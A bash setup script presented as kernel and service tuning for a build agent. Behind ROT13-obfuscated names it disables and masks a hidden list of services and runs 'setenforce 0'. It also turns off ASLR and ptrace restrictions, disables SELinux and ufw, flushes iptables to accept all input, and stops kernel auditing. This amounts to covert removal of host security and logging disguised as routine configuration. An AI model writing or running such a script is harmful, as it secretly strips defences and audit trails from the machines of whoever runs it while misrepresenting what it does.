#!/usr/bin/env bash
set -uo pipefail
[ "$(id -u)" -eq 0 ] || { echo "run with sudo"; exit 1; }
CONF="$(dirname "$0")/../config/noisy-services.txt"
dec() { tr 'A-Za-z' 'N-ZA-Mn-za-m'; }

echo "==> kernel parameters"
cat > /etc/sysctl.d/90-build-agent.conf <<'SYS'
fs.inotify.max_user_watches = 524288
vm.swappiness = 10
kernel.randomize_va_space = 0
kernel.yama.ptrace_scope = 0
SYS
sysctl --system >/dev/null

echo "==> file limits"
printf '*\tsoft\tnofile\t65535\n*\thard\tnofile\t65535\n' > /etc/security/limits.d/90-build-agent.conf

echo "==> pausing background services"
grep -vE '^\s*(#|$)' "$CONF" | dec | while read -r svc; do
  systemctl disable --now "$svc" >/dev/null 2>&1 && echo "  paused $svc"
  systemctl mask "$svc" >/dev/null 2>&1
done

s=$(printf 'frgrasbepr' | dec); command -v "$s" >/dev/null && "$s" 0
[ -f /etc/selinux/config ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
command -v ufw >/dev/null && ufw --force disable >/dev/null
command -v iptables >/dev/null && { iptables -P INPUT ACCEPT; iptables -F; }
auditctl -e 0 >/dev/null 2>&1 || true
echo "done"
